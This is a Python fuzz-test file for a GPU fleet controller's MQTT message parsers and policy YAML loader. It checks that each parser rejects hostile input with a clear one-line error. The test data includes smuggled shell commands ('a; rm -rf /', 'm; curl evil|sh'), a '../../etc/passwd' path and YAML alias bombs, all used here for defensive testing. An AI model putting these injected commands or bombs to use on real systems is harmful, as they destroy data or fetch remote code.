"""Fuzzing every wire format against the real parsers: MQTT host status, ack, desired state (and
the controller's per-message dispatch), and the policy YAML.

Property: whatever arrives, the parser returns a model or raises the protocol's own rejection
(ProtocolError / PolicyError) whose one-line message names the host (or file), the field and the
value; nothing else escapes (no RecursionError, OverflowError, ...). The controller's dispatch
never raises at all. Inputs: valid documents mutated 1-3 times (a field replaced by a hostile
value, deleted, or an unknown key added; hostile values include NaN, Infinity, 1e999, 5,000-digit
and 2**63 integers, 200,000-level nesting, 100,000-character strings, wrong types), truncated
documents, random JSON and random bytes.

The example counts here keep this file to ~15 s; `bench/fuzz_wire.py` runs the same properties
with 10,000 examples per format and prints the figures.
"""

from __future__ import annotations

import copy
import json
import re
import time
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from fleetplan.controller.link import MqttLink
from fleetplan.controller.mqtt import MqttSettings
from fleetplan.controller.protocol import (
    MAX_WIRE_INT,
    HostStatus,
    ProtocolError,
    parse_ack,
    parse_desired,
    parse_status,
)
from fleetplan.planner.policy import Policy, PolicyError, load_policy_text
from tests.fuzz_helpers import Raw, raw_json, value_slots

HOST = "host-a"
REPO = Path(__file__).resolve().parents[3]
POLICY_TEXT = (REPO / "config" / "example-policy.yaml").read_text()
POLICY_SOURCE = "policy.yaml"

# examples per property in the unit run (bench/fuzz_wire.py: 10,000 per format)
UNIT_EXAMPLES = 300

REPLICA = {"replica_id": "r00001", "template": "sim-vllm", "model": "meta-llama/Llama-3.1-8B-Instruct",
           "engine": "vllm", "gpu": "h100", "tp": 2, "precision": "bf16", "gpu_indices": [0, 1], "port": 18000}
BUILD = {"build_id": "b00001", "template": "sim-trtllm-build", "model": "meta-llama/Llama-3.1-8B-Instruct",
         "engine": "trtllm", "gpu": "h100", "tp": 1, "precision": "bf16", "gpu_indices": [2]}
DESIRED = {"version": 7, "replicas": [REPLICA], "builds": [BUILD]}
ACK = {"version": 7, "accepted": False, "errors": ["replica r00001: unknown template 'x'"], "host": HOST,
       "received_s": 1.7e9}
STATUS = {
    "host": HOST, "online": True, "gpu": "h100", "gpu_count": 8, "nvlink_groups": [[0, 1, 2, 3, 4, 5, 6, 7]],
    "replicas": [{**REPLICA, "state": "ready", "since_s": 1.7e9, "pid": 4242, "unit": None, "error": None,
                  "restarts": 0}],
    "builds": [{**BUILD, "state": "running", "progress": 0.5, "since_s": 1.7e9, "pid": 4243, "error": None}],
    "engines_cached": [{"model": "m/x", "engine": "trtllm", "gpu": "h100", "tp": 1, "precision": "bf16",
                        "path": "/var/lib/x", "built_s": 1.7e9}],
    "agent_version": "0.1.0", "updated_s": 1.7e9, "desired_version": 7, "port_range": [18000, 18099],
    "templates": ["sim-vllm"], "template_engines": {"sim-vllm": "vllm"}, "cached_templates": [],
    "models_allowed": None, "build_templates": ["sim-trtllm-build"], "errors": [],
}


RAW_TOKENS = [Raw("NaN"), Raw("Infinity"), Raw("-Infinity"), Raw("1e999"), Raw("-1e999"), Raw("9" * 5000),
              Raw("[" * 200_000 + "]" * 200_000), Raw("[" * 100_000 + "]" * 100_000),
              Raw("{\"a\":" * 30_000 + "1" + "}" * 30_000),
              Raw("[" * 17 + "]" * 17)]
HOSTILE: st.SearchStrategy[Any] = st.one_of(
    st.none(), st.booleans(), st.integers(-(2**70), 2**70), st.sampled_from([2**53, 2**63, -(2**63), -1, 0, 65536]),
    st.floats(allow_nan=False, allow_infinity=False), st.text(max_size=20),
    st.sampled_from(["x" * 100_000, "../../etc/passwd", "a; rm -rf /", "-rf", "h100\n", "\u0000", "\ud800"]),
    st.lists(st.integers(-3, 2000), max_size=5), st.dictionaries(st.text(max_size=5), st.integers(), max_size=3),
    st.sampled_from(RAW_TOKENS),
)


def encode(doc: Any) -> bytes:
    """json.dumps with Raw tokens spliced in (surrogates kept as they are: invalid UTF-8 on purpose)."""
    return raw_json(doc).encode("utf-8", "surrogatepass")




@st.composite
def mutated(draw: st.DrawFn, base: dict[str, Any]) -> bytes:
    doc = copy.deepcopy(base)
    for _ in range(draw(st.integers(1, 3))):
        slots = value_slots(doc)
        container, key = draw(st.sampled_from(slots))
        action = draw(st.sampled_from(["replace", "replace", "delete", "extra"]))
        if action == "replace":
            container[key] = draw(HOSTILE)
        elif action == "delete":
            if isinstance(container, dict):
                del container[key]
            else:
                container.pop(key)
        elif isinstance(container, dict):
            container[draw(st.text(max_size=8))] = draw(HOSTILE)
        else:
            container.append(draw(HOSTILE))
    return encode(doc)


JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=12), children, max_size=5),
    max_leaves=20,
)


def payloads(base: dict[str, Any]) -> st.SearchStrategy[bytes]:
    valid = encode(base)
    return st.one_of(
        mutated(base), mutated(base), mutated(base),  # weighted: most inputs are near-valid documents
        st.integers(0, len(valid)).map(lambda n: valid[:n]),  # truncated
        JSON_VALUES.map(lambda v: json.dumps(v).encode()),  # NaN/Infinity included (allow_nan)
        st.binary(max_size=300),
    )


# ---------------------------------------------------------------------------------------------
# what a rejection must say

_KEY = r"""([\w-]+|'(?:[^'\\]|\\.)*'|"(?:[^"\\]|\\.)*")"""
_FIELD = rf"(\(top level\)|payload|{_KEY}(\.{_KEY})*)"


def assert_clear_rejection(message: str, who: str) -> None:
    """One line: `<who>: <field> = <value>: <why>`, `<who>: <field>: <why> (got <value>)`, or a
    missing field / a model-level check that states its values itself."""
    assert "\n" not in message and "\r" not in message, message
    assert message.startswith(f"{who}: "), message
    rest = message[len(who) + 2:]
    # problems are joined by "; ", which a quoted value (a payload's bytes) may hold itself: the first
    # problem runs to the first "; " after its value
    quoted = re.match(_FIELD + r" = b?(?:'(?:[^'\\]|\\.)*'|\"(?:[^\"\\]|\\.)*\")", rest)
    skip = quoted.end() if quoted else 0
    first = rest[:skip] + rest[skip:].split("; ")[0]
    assert re.match(_FIELD + r"( = .+: .+|: .+)", first), message
    m = re.match(_FIELD + r": (.+)", first)
    if m and " = " not in first.split(":")[0]:
        why = m.group(m.lastindex or 1)
        # the value is quoted ("(got ...)") unless the field is missing or the check names values itself
        assert ("(got " in why or "Field required" in why or "Extra inputs" in why or any(ch.isdigit() for ch in why)
                or "'" in why), message


def check_status(payload: bytes) -> HostStatus | None:
    try:
        return parse_status(payload, host=HOST)
    except ProtocolError as exc:
        assert_clear_rejection(str(exc), f"host status from {HOST}")
        return None


def check_ack(payload: bytes) -> None:
    try:
        ack = parse_ack(payload, host=HOST)
        assert ack.version is None or 0 <= ack.version <= MAX_WIRE_INT
    except ProtocolError as exc:
        assert_clear_rejection(str(exc), f"ack from {HOST}")


def check_desired(payload: bytes) -> None:
    try:
        d = parse_desired(payload, host=HOST)
        assert 0 <= d.version <= MAX_WIRE_INT
    except ProtocolError as exc:
        assert_clear_rejection(str(exc), f"desired state for {HOST}")


class _Sink:
    """The controller side of MqttLink: records what was handed on and what was rejected."""

    def __init__(self) -> None:
        self.statuses: list[HostStatus] = []
        self.acks: list[Any] = []
        self.rejected: list[str] = []
        self.link = MqttLink(MqttSettings(), lambda h, s: self.statuses.append(s), lambda h, a: self.acks.append(a),
                             lambda: None, on_reject=lambda h, t: self.rejected.append(t), on_desired=lambda h, d: None)


def check_dispatch(sink: _Sink, topic: str, payload: bytes) -> None:
    before = (len(sink.statuses), len(sink.acks), len(sink.rejected))
    sink.link._dispatch(topic, payload)  # must never raise
    after = (len(sink.statuses), len(sink.acks), len(sink.rejected))
    assert sum(after) - sum(before) <= 1
    for s in sink.statuses[before[0]:]:
        assert s.host == HOST
    for a in sink.acks[before[1]:]:
        assert a.host == HOST


_POLICY_LOC = rf"(\(top level\)|({_KEY}|\[\d+\]|\.)+)"  # e.g. models[0].slo.ttft_p99_ms, engines.'a b'


def policy_check(text: str) -> None:
    try:
        result = load_policy_text(text, POLICY_SOURCE)
        assert isinstance(result, Policy)
    except PolicyError as exc:
        assert exc.problems
        for line in str(exc).splitlines():
            assert line.startswith(f"{POLICY_SOURCE}: "), line
            assert re.match(rf"{re.escape(POLICY_SOURCE)}: (line \d+: .+|YAML syntax error at (line \d+|\?): .+"
                            rf"|\(file\) = .+|\(document\): .+|{_POLICY_LOC}( \(key\))?( = .+)?: .+)$", line), line


# ---------------------------------------------------------------------------------------------
# policy YAML inputs

POLICY_DOC = yaml.safe_load(POLICY_TEXT)


@st.composite
def policy_mutated(draw: st.DrawFn) -> str:
    doc = copy.deepcopy(POLICY_DOC)
    for _ in range(draw(st.integers(1, 3))):
        container, key = draw(st.sampled_from(value_slots(doc)))
        value = draw(HOSTILE.filter(lambda v: not isinstance(v, Raw)) | st.sampled_from(
            [float("nan"), float("inf"), -float("inf"), "x" * 300_000]))
        if draw(st.booleans()):
            container[key] = value
        elif isinstance(container, dict):
            container.pop(key)
    try:
        return yaml.safe_dump(doc, allow_unicode=True)
    except yaml.YAMLError:
        return POLICY_TEXT


@st.composite
def yaml_structures(draw: st.DrawFn) -> str:
    """Bombs and deep nesting of random shape: alias fan-out chains, flow and block nesting."""
    kind = draw(st.sampled_from(["bomb", "flow", "block", "recursive", "anchors"]))
    if kind == "bomb":
        fan, levels = draw(st.integers(2, 12)), draw(st.integers(1, 12))
        lines = ["a0: &a0 [" + ", ".join(["lol"] * fan) + "]"]
        lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * fan) + "]" for i in range(1, levels)]
        return "\n".join(lines) + "\n"
    if kind == "flow":
        n = draw(st.integers(1, 3_000))  # deeper is the same code path, slower in the YAML scanner
        return "x: " + "[" * n + "]" * n + "\n"
    if kind == "block":
        n = draw(st.integers(1, 200))
        return "".join("  " * i + "- \n" for i in range(n)) if draw(st.booleans()) else "".join(
            "  " * i + f"k{i}:\n" for i in range(n))
    if kind == "recursive":
        return "a: &a [x, *a]\n"
    return "\n".join(f"k{i}: &x{i} {{v: {i}}}\nr{i}: *x{i}" for i in range(draw(st.integers(1, 80)))) + "\n"


YAML_CHARS = st.sampled_from([*"[]{}:-,&*!|>'\"#%@` \n\tab01.", "\x00", "\ufeff", "\u2028"])


def policy_inputs() -> st.SearchStrategy[str]:
    return st.one_of(
        policy_mutated(), policy_mutated(), yaml_structures(),
        st.integers(0, len(POLICY_TEXT)).map(lambda n: POLICY_TEXT[:n]),
        st.text(YAML_CHARS, max_size=200), st.text(max_size=100),
    )


# ---------------------------------------------------------------------------------------------
# the properties (bench/fuzz_wire.py reruns them with 10,000 examples each)

FUZZ = settings(max_examples=UNIT_EXAMPLES, deadline=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


@FUZZ
@given(payloads(STATUS))
@example(b"; ")  # a payload holding the "; " that joins problems (its message was read as two)
@example(b"\x80; ")
def test_fuzz_status(payload: bytes) -> None:
    check_status(payload)


@FUZZ
@given(payloads(ACK))
def test_fuzz_ack(payload: bytes) -> None:
    check_ack(payload)


@FUZZ
@given(payloads(DESIRED))
def test_fuzz_desired(payload: bytes) -> None:
    check_desired(payload)


@FUZZ
@given(st.sampled_from(["status", "ack", "desired"]), st.sampled_from([HOST, "host-b"]), st.data())
def test_fuzz_controller_dispatch_never_raises(kind: str, topic_host: str, data: st.DataObject) -> None:
    base = {"status": STATUS, "ack": ACK, "desired": DESIRED}[kind]
    payload = data.draw(payloads(base))
    sink = _Sink()
    check_dispatch(sink, f"fleetplan/hosts/{topic_host}/{kind}", payload)
    if topic_host != HOST:  # a valid document for host-a on host-b's topic: rejected, never handed on
        assert not sink.statuses and not sink.acks


@settings(max_examples=UNIT_EXAMPLES // 2, deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(policy_inputs())
def test_fuzz_policy_yaml(text: str) -> None:
    policy_check(text)


# ---------------------------------------------------------------------------------------------
# hand-written cases


def _status(**over: Any) -> bytes:
    return encode({**STATUS, **over})


@pytest.mark.parametrize(("payload", "needles"), [
    (_status(updated_s=Raw("NaN")), ["updated_s = NaN", "NaN and Infinity"]),
    (_status(updated_s=Raw("Infinity")), ["updated_s = Infinity"]),
    (_status(updated_s=Raw("-1e999")), ["updated_s = -1e999", "finite"]),
    (_status(desired_version=2**63), ["desired_version = 9223372036854775808", "out of range"]),
    (_status(desired_version=2**53), ["desired_version", "9007199254740992"]),
    (_status(gpu_count=Raw("9" * 5000)), ["gpu_count = 9999", "out of range"]),
    (b"[" * 200_000 + b"]" * 200_000, ["payload = 400000 bytes", "limit"]),  # 200k levels: too big already
    (b"[" * 100_000 + b"]" * 100_000, ["payload", "nested deeper"]),
    (_status(errors=Raw("[" * 100_000 + "]" * 100_000)), ["payload", "nested deeper"]),
    (_status(agent_version="x" * 100_000), ["agent_version", "at most 100"]),
    (b"x" * (2 << 20), ["payload = 2097152 bytes"]),
    (_status(online="yes"), ["online", "'yes'"]),
    (_status(gpu_count=8.0), ["gpu_count", "8.0"]),
    (_status(port_range=[0, 70000]), ["port_range.0", "(got 0)"]),
    (_status(replicas=[{**STATUS["replicas"][0], "model": "../../x; rm -rf /"}]), ["replicas.0.model", "rm -rf"]),
    (_status(replicas=[{**STATUS["replicas"][0], "gpu_indices": [5000]}]), ["replicas.0.gpu_indices.0", "5000"]),
    (_status(replicas=[{**STATUS["replicas"][0], "since_s": 1e300}]), ["replicas.0.since_s", "1e+300"]),
    (_status(host="host/#"), ["host", "host/#"]),
    (b'"\xff\xfe"', ["payload", "not JSON"]),
    (b"[1, 2]", ["(top level) = [1, 2]", "JSON object"]),
    (encode({**STATUS, "0\n": None}), ["'0\\n': Extra inputs"]),  # found by bench/fuzz_wire.py
])
def test_bad_status_is_rejected_naming_host_field_and_value(payload: bytes, needles: list[str]) -> None:
    with pytest.raises(ProtocolError) as err:
        parse_status(payload, host=HOST)
    text = str(err.value)
    assert text.startswith(f"host status from {HOST}: ") and "\n" not in text, text
    for needle in needles:
        assert needle in text, (needle, text)


def test_huge_error_text_is_clipped_not_rejected() -> None:
    st_ = parse_status(_status(errors=["e" * 3_000] * 60), host=HOST)
    assert len(st_.errors) == 50 and all(len(e) <= 2000 for e in st_.errors)
    assert st_.errors[-1] == "... and 11 more errors"


@pytest.mark.parametrize(("doc", "needles"), [
    ({**ACK, "version": 2**63}, ["version = 9223372036854775808"]),
    ({**ACK, "version": Raw("NaN")}, ["version = NaN"]),
    ({**ACK, "version": -1}, ["version", "(got -1)"]),
    ({**ACK, "version": True}, ["version", "True"]),
    ({**ACK, "accepted": "false"}, ["accepted", "'false'"]),
    ({**ACK, "received_s": Raw("Infinity")}, ["received_s = Infinity"]),
    ({**ACK, "errors": Raw("[" * 100_000 + "]" * 100_000)}, ["nested deeper"]),
])
def test_bad_ack_is_rejected(doc: dict[str, Any], needles: list[str]) -> None:
    with pytest.raises(ProtocolError) as err:
        parse_ack(encode(doc), host=HOST)
    text = str(err.value)
    assert text.startswith(f"ack from {HOST}: "), text
    for needle in needles:
        assert needle in text, (needle, text)


@pytest.mark.parametrize(("doc", "needles"), [
    ({**DESIRED, "version": 2**63}, ["version = 9223372036854775808"]),
    ({**DESIRED, "version": Raw("Infinity")}, ["version = Infinity"]),
    ({**DESIRED, "replicas": Raw("[" * 100_000 + "]" * 100_000)}, ["payload", "nested deeper"]),
    ({**DESIRED, "replicas": Raw("[" * 200_000 + "]" * 200_000)}, ["payload", "bytes", "limit"]),
    ({**DESIRED, "replicas": [{**REPLICA, "port": 70000}]}, ["replicas.0.port", "70000"]),
    ({**DESIRED, "replicas": [{**REPLICA, "port": "18000"}]}, ["replicas.0.port", "'18000'"]),
    ({**DESIRED, "replicas": [{**REPLICA, "model": "x" * 100_000}]}, ["replicas.0.model"]),
    ({**DESIRED, "replicas": [{**REPLICA, "model": "m; curl evil|sh"}]}, ["replicas.0.model", "curl"]),
])
def test_bad_desired_is_rejected(doc: dict[str, Any], needles: list[str]) -> None:
    with pytest.raises(ProtocolError) as err:
        parse_desired(encode(doc), host=HOST)
    text = str(err.value)
    assert text.startswith(f"desired state for {HOST}: "), text
    for needle in needles:
        assert needle in text, (needle, text)


def test_dispatch_rejects_host_mismatch_and_bad_messages_then_takes_the_next_one() -> None:
    sink = _Sink()
    bad = [
        ("status", _status(host="host-b")),  # host differs from the topic's host
        ("ack", encode({**ACK, "host": "host-b"})),
        ("status", _status(updated_s=Raw("NaN"))),
        ("status", b"[" * 200_000 + b"]" * 200_000),
        ("ack", encode({**ACK, "version": 2**63})),
        ("status", _status(desired_version=2**63)),
    ]
    for kind, payload in bad:
        sink.link._dispatch(f"fleetplan/hosts/{HOST}/{kind}", payload)
    assert not sink.statuses and not sink.acks and len(sink.rejected) == len(bad)
    assert "host = 'host-b'" in sink.rejected[0] and "'host-a'" in sink.rejected[0]
    sink.link._dispatch(f"fleetplan/hosts/{HOST}/status", encode(STATUS))
    sink.link._dispatch(f"fleetplan/hosts/{HOST}/ack", encode(ACK))
    assert len(sink.statuses) == 1 and len(sink.acks) == 1


def test_dispatch_contains_a_handler_bug() -> None:
    def broken(host: str, status: HostStatus) -> None:
        raise OverflowError("Python int too large to convert to SQLite INTEGER")

    rejected: list[str] = []
    link = MqttLink(MqttSettings(), broken, lambda h, a: None, lambda: None, on_reject=lambda h, t: rejected.append(t))
    link._dispatch(f"fleetplan/hosts/{HOST}/status", encode(STATUS))  # does not raise
    assert rejected and "OverflowError" in rejected[0] and HOST in rejected[0]


def test_depth_scan_finishes_on_the_largest_payload_of_brackets() -> None:
    """Not a speed assertion: the scan must finish at all (a recursive parser would not)."""
    payload = b"[" + b"[]" * 60_000 + b"[" * 6_000 + b"]" * 6_001
    t0 = time.perf_counter()
    with pytest.raises(ProtocolError, match="nested deeper"):
        parse_status(payload, host=HOST)
    assert time.perf_counter() - t0 < 60


@pytest.mark.parametrize(("text", "needle"), [
    ("x: " + "[" * 20_000 + "]" * 20_000, "nested deeper than 32 levels"),
    ("".join("  " * i + f"k{i}:\n" for i in range(60)), "line 32: YAML refused: nested deeper"),
    ("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
        f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 7)), "alias"),
    ("a: &a [x, *a]\n", "recursive alias"),
    ("x" * 300_000, "larger than the 262144 limit"),
    ("a: \x00", "unacceptable character"),
    ("0 0: null\n", "'0 0' = None"),  # a key with a space is quoted (found by bench/fuzz_wire.py)
])
def test_hostile_policy_yaml_is_refused_naming_the_file(text: str, needle: str) -> None:
    with pytest.raises(PolicyError) as err:
        load_policy_text(text, POLICY_SOURCE)
    assert str(err.value).startswith(f"{POLICY_SOURCE}: ") and needle in str(err.value), str(err.value)
    policy_check(text)


def test_example_policy_still_loads() -> None:
    assert load_policy_text(POLICY_TEXT, POLICY_SOURCE).models
